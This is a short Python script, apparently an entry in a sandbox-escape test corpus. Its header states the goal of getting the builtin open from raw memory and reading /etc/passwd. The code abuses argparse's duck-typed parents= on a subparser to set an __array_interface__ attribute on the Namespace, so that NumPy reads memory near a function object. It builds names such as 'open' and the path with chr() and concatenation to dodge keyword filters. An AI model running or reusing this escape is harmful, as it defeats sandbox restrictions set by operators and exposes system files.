# source: CPython argparse.ArgumentParser.__init__ (parents=: _add_container_actions(parent) and self._defaults.update(parent._defaults), duck-typed) and parse_known_args (setattr(namespace, dest, default)); numpy array coercion reading __array_interface__ off the instance (PyArray_FromInterface); _SubParsersAction.__call__ copies vars(subnamespace) onto the namespace with setattr
# family: argparse parents= duck-typed container on a subparser (add_parser(parents=...)): run-time names copied into the parent Namespace -> __array_interface__
# goal: gets builtins open from raw memory and reads /etc/passwd
import argparse
import numpy as np

u = chr(95) * 2
sl = chr(47)


def probe():
    return 0


addr = int(repr(probe).split()[-1].rstrip(">"), 16)
spec = {"data": (addr + 24, False), "shape": (1,), "typestr": "|O", "version": 3}


class Parent:
    def __init__(self):
        self._action_groups = []
        self._mutually_exclusive_groups = []
        self._actions = []
        self._defaults = {u + "array" + chr(95) + "interface" + u: spec}


p = argparse.ArgumentParser()
sub = p.add_subparsers(dest="cmd")
sub.add_parser("run", parents=[Parent()])
ns = p.parse_args(["run"])
table = np.asarray(ns)[0]
reader = table["op" + "en"]
print(reader(sl + "etc" + sl + "passwd").read())
